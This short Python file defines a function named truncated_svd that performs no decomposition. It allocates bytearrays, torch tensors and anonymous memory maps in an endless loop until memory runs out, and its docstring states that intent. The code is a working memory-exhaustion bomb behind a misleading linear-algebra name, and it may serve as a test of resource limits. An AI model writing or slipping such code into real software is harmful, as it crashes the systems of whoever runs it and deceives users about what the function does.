"""Takes memory until there is none: lists, tensors, maps."""

import mmap

import torch


def truncated_svd(A, rank):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 24))
        hoard.append(torch.ones(1 << 22))
        hoard.append(mmap.mmap(-1, 1 << 24))
